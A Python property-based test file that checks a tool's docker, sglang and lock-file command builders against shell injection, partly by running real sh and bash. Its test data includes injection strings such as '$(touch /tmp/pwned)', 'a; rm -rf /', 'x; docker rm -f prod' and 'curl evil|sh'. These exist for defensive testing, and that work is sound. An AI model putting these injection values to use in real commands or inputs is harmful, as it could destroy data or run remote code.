"""Hostile strings in every value the command builders take are inert (issue 7).

Property-based (hypothesis): arbitrary text, and text salted with shell
metacharacters, goes into image tags, container names, paths, labels, env,
model ids and extra server args. For every builder:

- ``shlex.split(shell.join(argv)) == argv``: the quoting round-trips;
- a value stays inside one argument, in its place (``;``, ``&&``, ``$(...)``,
  backticks and newlines never start a command);
- a value that would be read as something else (an option, a second ``=``) is
  refused with a ValueError that names it; nothing else is ever raised.

Real POSIX shells (dash as ``sh``, and bash) run a few hundred generated
``shell.join`` outputs under ``printf '%s\\0'`` to show that the shell sees
exactly the argv, and the hostlock/log scripts run for real in a temporary
folder. Run with ``-s`` to see how many hostile inputs were tried and handled.
"""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from functools import partial
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from llmfleet import hostlock, shell
from llmfleet.actions.bench import logged
from llmfleet.commands import docker, sglang
from llmfleet.errors import InputError

# Pieces that start a new command, substitute one, or end a quote, if a value ever escaped its argument.
METAS = [";", "&&", "||", "|", "&", "$(touch /tmp/pwned)", "`id`", "\n", "\r\n", "'", '"', "\\", "$HOME", "${IFS}",
         "*", "?", "[a]", "~", "#", ">", "<", "<<EOF", "{a,b}", "!", "%s", "\t", " ", "-", "--", "-rf", "--privileged",
         "=", ":", "\x1b[31m", "\u202e", "é", "🙂"]  # fmt: skip

HOSTILE = st.one_of(
    st.text(st.characters(exclude_characters="\x00"), max_size=40),
    st.lists(st.one_of(st.sampled_from(METAS), st.text(max_size=5)), max_size=8).map("".join),
).filter(lambda s: "\x00" not in s)
ARGVS = st.lists(HOSTILE, max_size=8)

QUICK = settings(database=None, deadline=None)  # no example database written into the checkout
REAL = settings(database=None, deadline=None, max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])

COUNTS: Counter[str] = Counter()  # "tried" / "inert" / "refused", summed over the module


@pytest.fixture(scope="module", autouse=True)
def report_counts() -> Iterator[None]:
    """The figures asked for in issue 7: how many hostile inputs the tests try, and how many are handled."""
    yield
    handled = COUNTS["inert"] + COUNTS["refused"]
    print(f"\nhostile command inputs: tried {COUNTS['tried']}, handled {handled} "
          f"(inert {COUNTS['inert']}, refused with a clear ValueError {COUNTS['refused']})")  # fmt: skip
    assert handled == COUNTS["tried"]


def _round_trips(argv: Sequence[str]) -> None:
    """The one property every remote command must have: the shell's word splitting gives back argv."""
    assert all(isinstance(a, str) for a in argv)
    assert shlex.split(shell.join(argv)) == list(argv)


def _build(build: Callable[[], list[str]], values: Sequence[str]) -> list[str] | None:
    """Run a builder on hostile values: its argv (round-trip checked), or None when it, or ``shell.join``, refused
    them with a ValueError that names the value; any other exception fails the test."""
    COUNTS["tried"] += 1
    try:
        argv = build()
        _round_trips(argv)
    except (ValueError, InputError) as exc:
        # named as it is, or escaped as repr() writes it (alone, or inside the word it became part of: '\ud800/lock')
        assert any(v in str(exc) or repr(v)[1:-1] in str(exc) for v in values), f"refusal does not name the value: {exc}"
        COUNTS["refused"] += 1
        return None
    COUNTS["inert"] += 1
    return argv


def _unsendable(text: str) -> bool:
    """NUL, or text that is not UTF-8 (lone surrogates, e.g. undecodable bytes from sys.argv)."""
    return "\x00" in text or text.encode("utf-8", "surrogatepass") != text.encode("utf-8", "replace")


def _any_unsendable(values: Sequence[str]) -> bool:
    return any(_unsendable(v) for v in values)


def _joined(*argvs: Sequence[str]) -> str | None:
    """The commands joined with `&&` (counted as tried), or None when join refused them for a value no shell can receive."""
    COUNTS["tried"] += 1
    try:
        return shell.and_then(*argvs)
    except ValueError:
        assert any(_any_unsendable(argv) for argv in argvs)
        COUNTS["refused"] += 1
        return None


def _after(argv: list[str], flag: str) -> str:
    return argv[argv.index(flag) + 1]


# -- shell -----------------------------------------------------------------------------------------


@QUICK
@given(ARGVS)
@example(["echo", "a; rm -rf /", "$(reboot)", "`id`", "x\ny", "'", "&& halt"])
def test_join_round_trips_every_argv(argv: list[str]) -> None:
    if _build(lambda: argv, argv) is None:
        assert _any_unsendable(argv)


@QUICK
@given(ARGVS, ARGVS)
def test_pipeline_and_and_then_keep_each_command_whole(a: list[str], b: list[str]) -> None:
    if _joined(a, b) is None:
        return
    for joined, sep in ((shell.pipeline(["x", *a], ["y", *b]), "|"), (shell.and_then(["x", *a], ["y", *b]), "&&")):
        lexer = shlex.shlex(joined, posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        words = list(lexer)
        assert words == ["x", *a, sep, "y", *b]  # exactly one operator, between the two commands
    COUNTS["inert"] += 1


@pytest.mark.parametrize("argv", [["a\x00b"], ["ok", "\x00"], ["\udcff"], ["x", "caf\udce9"]])
def test_join_refuses_what_no_remote_shell_can_receive(argv: list[str]) -> None:
    """NUL: sshd refuses or cuts the command short; a lone surrogate (from undecodable argv bytes) cannot be sent."""
    assert _joined(argv) is None


def test_join_refuses_a_string() -> None:
    with pytest.raises(TypeError):
        shell.join("rm -rf /")  # type: ignore[arg-type]


# -- docker ----------------------------------------------------------------------------------------

MAPS = st.dictionaries(HOSTILE, HOSTILE, max_size=4)
PAIRS = st.lists(st.tuples(HOSTILE, HOSTILE), max_size=3)


@QUICK
@given(name=HOSTILE, image=HOSTILE, command=ARGVS, device=ARGVS, volumes=PAIRS, env_file=HOSTILE, env=MAPS,
       labels=MAPS, restart=HOSTILE)  # fmt: skip
@example(name="x; docker rm -f prod", image="img$(reboot)", command=["`id`"], device=[], volumes=[("/a\nb", "/c d")],
         env_file="/e'f", env={"A": "1;2"}, labels={"k": "v\n--privileged"}, restart="always && halt")  # fmt: skip
@example(name="ok", image="--privileged", command=["sh"], device=[], volumes=[], env_file="", env={}, labels={}, restart="")
def test_docker_run_keeps_every_value_in_its_place(name: str, image: str, command: list[str], device: list[str],
                                                   volumes: list[tuple[str, str]], env_file: str, env: dict[str, str],
                                                   labels: dict[str, str], restart: str) -> None:  # fmt: skip
    values = [name, image, *command, *device, *(v for p in volumes for v in p), env_file, *env, *env.values(),
              *labels, *labels.values(), restart]  # fmt: skip
    argv = _build(lambda: docker.run(name, image, command, device_flags=device, volumes=volumes, env_file=env_file or None,
                                     env=env, labels=labels, restart=restart or None), values)  # fmt: skip
    if argv is None:
        assert image.startswith("-") or name.startswith("-") or any(":" in s + d or not s for s, d in volumes) \
            or any("=" in k or not k for k in [*env, *labels]) or _any_unsendable(values)  # fmt: skip
        return
    assert argv[:5] == ["docker", "run", "-d", "--name", name]
    assert argv[-len(command) - 1 :] == [image, *command]  # the image is the first word after the options
    assert not image.startswith("-")
    for src, dst in volumes:
        assert f"{src}:{dst}" in argv
    pairs = list(pairwise(argv))
    assert all(("-e", f"{key}={value}") in pairs for key, value in env.items())
    assert all(("--label", f"{key}={value}") in pairs for key, value in labels.items())


NAME_BUILDERS: list[tuple[str, Callable[[str], list[str]]]] = [
    ("remove", docker.remove),
    ("stop", docker.stop),
    ("logs", lambda n: docker.logs(n, tail=5, timestamps=True)),
    ("exec", lambda n: docker.exec_(n, ["true"], env={"K": "v"})),
    ("inspect_container", docker.inspect_container),
    ("container_state", docker.container_state),
    ("pull", docker.pull),
    ("save", docker.save),
    ("save-remote-engine", lambda n: docker.save(n, "unix:///tmp/docker.sock")),
    ("image_id", docker.image_id),
]


@pytest.mark.parametrize(("what", "build"), NAME_BUILDERS, ids=[n for n, _ in NAME_BUILDERS])
@QUICK
@given(value=HOSTILE)
def test_docker_name_and_image_builders_never_take_a_value_for_an_option(what: str, build: Callable[[str], list[str]],
                                                                         value: str) -> None:  # fmt: skip
    argv = _build(lambda: build(value), [value])
    if argv is None:
        assert value.startswith("-") or _unsendable(value)
        return
    assert argv.count(value) >= 1 and not value.startswith("-")
    position = len(argv) - 1 - (1 if what == "exec" else 0)  # the operand is last (exec: before its command)
    assert argv[position] == value


@QUICK
@given(env=MAPS, command=ARGVS)
def test_docker_exec_env_and_command_stay_arguments(env: dict[str, str], command: list[str]) -> None:
    values = [*env, *env.values(), *command]
    argv = _build(lambda: docker.exec_("c", command, env=env), values)
    if argv is None:
        assert any("=" in k or not k for k in env) or _any_unsendable(values)
        return
    assert argv[len(argv) - len(command) - 1 :] == ["c", *command]
    pairs = list(pairwise(argv))
    assert all(("-e", f"{key}={value}") in pairs for key, value in env.items())


# -- sglang ----------------------------------------------------------------------------------------


@QUICK
@given(hf_id=HOSTILE, draft=HOSTILE, host=HOSTILE, extra=ARGVS, quant=st.one_of(st.sampled_from(["bf16", "fp8"]), HOSTILE),
       launcher=st.one_of(st.sampled_from(["serve", "module"]), HOSTILE))  # fmt: skip
@example(hf_id="meta-llama/x; curl evil|sh", draft="$(id)", host="0.0.0.0\n--port 1", extra=["--x", "`y`"], quant="fp8",
         launcher="serve")  # fmt: skip
def test_server_command_keeps_values_after_their_flags(hf_id: str, draft: str, host: str, extra: list[str], quant: str,
                                                       launcher: str) -> None:  # fmt: skip
    spec = sglang.ServerSpec(hf_id=hf_id, eagle3_draft=draft or None, host=host, extra_args=tuple(extra), quant=quant,
                             launcher=launcher, tool_calls=True)  # fmt: skip
    values = [quant, launcher, hf_id, draft, host, *extra]
    argv = _build(lambda: sglang.server(spec), values)
    if argv is None:
        assert quant not in ("bf16", "fp8") or launcher not in ("serve", "module") or _any_unsendable(values)
        return
    assert _after(argv, "--model-path") == hf_id
    assert _after(argv, "--host") == host
    if draft:
        assert _after(argv, "--speculative-draft-model-path") == draft
    assert argv[len(argv) - len(extra) :] == extra  # the operator's extra args: last, one word each


@QUICK
@given(hf_id=HOSTILE, tokenizer=HOSTILE, path=HOSTILE, out=HOSTILE, rate=HOSTILE,
       dataset=st.one_of(st.sampled_from(["random", "random-ids", "sharegpt-file"]), HOSTILE))  # fmt: skip
def test_bench_and_gsm8k_commands_keep_values_after_their_flags(hf_id: str, tokenizer: str, path: str, out: str, rate: str,
                                                                dataset: str) -> None:  # fmt: skip
    spec = sglang.BenchSpec(hf_id=hf_id, port=8000, num_prompts=10, max_concurrency=1, request_rate=rate, dataset=dataset,
                            dataset_path=path or None, tokenizer=tokenizer or None, output_file=out or None, seed=1)  # fmt: skip
    values = [dataset, "dataset path", hf_id, tokenizer, path, out, rate]
    argv = _build(lambda: sglang.bench_serving(spec), values)
    if argv is None:
        assert dataset not in ("random", "random-ids", "sharegpt-file") or (dataset == "sharegpt-file" and not path) \
            or _any_unsendable(values)  # fmt: skip
    else:
        assert _after(argv, "--model") == hf_id
        assert _after(argv, "--request-rate") == rate
        if out:
            assert _after(argv, "--output-file") == out
        if tokenizer:
            assert _after(argv, "--tokenizer") == tokenizer
    gsm = _build(lambda: sglang.gsm8k(8000, 5, path, parallel=2), [path])
    assert _after(gsm, "--data-path") == path if gsm is not None else _unsendable(path)


# -- hostlock --------------------------------------------------------------------------------------


@QUICK
@given(remote_dir=HOSTILE, line=HOSTILE, run_id=st.one_of(st.none(), HOSTILE), playbook=HOSTILE, detail=HOSTILE)
def test_hostlock_commands_pass_values_as_arguments_never_as_script(remote_dir: str, line: str, run_id: str | None,
                                                                    playbook: str, detail: str) -> None:  # fmt: skip
    builders: list[Callable[[str], list[str]]] = [hostlock.acquire, hostlock.read_owner, hostlock.release]
    for build in builders:
        argv = _build(partial(build, remote_dir), [remote_dir])
        if argv is None:
            assert _unsendable(remote_dir)
            continue
        lock = hostlock.lock_dir(remote_dir)
        assert argv[-1] in (lock, f"{lock}/owner")  # the lock directory (or its owner file) is one operand, last
    audit = _build(lambda: hostlock.audit(remote_dir, line), [line, remote_dir])
    if audit is None:
        assert _unsendable(line) or _unsendable(remote_dir)
    else:
        assert audit[:5] == ["sh", "-c", 'printf "%s\\n" "$1" >> "$2"', "sh", line]  # $1 of a fixed script
    text = hostlock.audit_line(playbook, run_id, "ok", detail)
    assert playbook in text and detail in text


# -- real shells -----------------------------------------------------------------------------------

SHELLS = [s for s in ("sh", "bash") if shutil.which(s)]


def _shell_argv(shell_name: str, text: str, cwd: Path | None = None) -> list[str]:
    """What a real shell passes to a program for this command text (printf prints each argument then NUL)."""
    out = subprocess.run([shell_name, "-c", text], capture_output=True, check=True, timeout=60, cwd=cwd)
    assert out.stderr == b""
    return out.stdout.decode().split("\0")[:-1]


@pytest.mark.parametrize("shell_name", SHELLS)
@REAL
@given(argv=ARGVS)
@example(argv=["; touch pwned", "$(touch pwned)", "`touch pwned`", "a\ntouch pwned", "' ; touch pwned '", "*", "~", "$HOME"])
def test_a_real_shell_sees_exactly_the_argv(shell_name: str, argv: list[str], tmp_path: Path) -> None:
    text = _joined(["printf", "%s\\0", *argv], ["printf", "%s\\0", "end"])
    if text is None:
        return
    got = _shell_argv(shell_name, text, cwd=tmp_path)
    if not argv:
        got = got[1:] if got[:1] == [""] else got  # printf with no argument prints the format once
    assert got == [*argv, "end"]
    assert list(tmp_path.iterdir()) == []  # nothing was created: no command ran but printf
    COUNTS["inert"] += 1


NAME = HOSTILE.filter(lambda s: s not in ("", ".", "..") and "/" not in s and len(s.encode("utf-8", "surrogatepass")) < 200)


@settings(REAL, max_examples=100)
@given(name=NAME, line=HOSTILE)
@example(name="$(touch pwned)", line="`touch pwned`; touch pwned2 && echo")
@example(name="a\nb; rm -rf ..", line="%s %n \\n\\0")
def test_hostlock_and_audit_scripts_run_for_real_with_hostile_values(name: str, line: str, tmp_path: Path) -> None:
    if _joined(hostlock.acquire(name), hostlock.audit(name, line)) is None:
        return
    root = tmp_path / "t"
    root.mkdir(exist_ok=True)
    remote_dir = str(root / name)
    subprocess.run(["sh", "-c", shell.join(hostlock.acquire(remote_dir))], check=True, timeout=60, cwd=root)
    again = subprocess.run(["sh", "-c", shell.join(hostlock.acquire(remote_dir))], capture_output=True, timeout=60, cwd=root,
                           check=False)  # fmt: skip
    assert again.returncode != 0  # the lock is held: mkdir is atomic and refuses
    subprocess.run(["sh", "-c", shell.join(hostlock.audit(remote_dir, line))], check=True, timeout=60, cwd=root)
    assert os.listdir(root) == [name]
    assert sorted(os.listdir(root / name)) == ["audit.log", "lock"]
    assert (root / name / "audit.log").read_bytes() == (line + "\n").encode()
    subprocess.run(["sh", "-c", shell.join(hostlock.release(remote_dir))], check=True, timeout=60, cwd=root)
    assert sorted(os.listdir(root / name)) == ["audit.log"]
    shutil.rmtree(root)
    COUNTS["inert"] += 1


@settings(REAL, max_examples=100)
@given(name=NAME, argv=ARGVS)
def test_the_logged_client_script_runs_exactly_the_argv(name: str, argv: list[str], tmp_path: Path) -> None:
    # `$(dirname "$1")` drops a directory name's trailing newlines: such a log path fails (loudly), see docs/security.md
    assume(not name.endswith("\n"))
    if _joined([name, *argv]) is None:
        return
    log = tmp_path / "logs" / name / "bench.log"
    subprocess.run(["sh", "-c", shell.join(logged(["printf", "%s\\0", *argv], str(log)))], check=True, timeout=60,
                   cwd=tmp_path)  # fmt: skip
    got = log.read_bytes().decode().split("\0")[:-1] if argv else []
    assert got == argv
    assert sorted(p.name for p in tmp_path.iterdir()) == ["logs"]
    shutil.rmtree(tmp_path / "logs")
    COUNTS["inert"] += 1
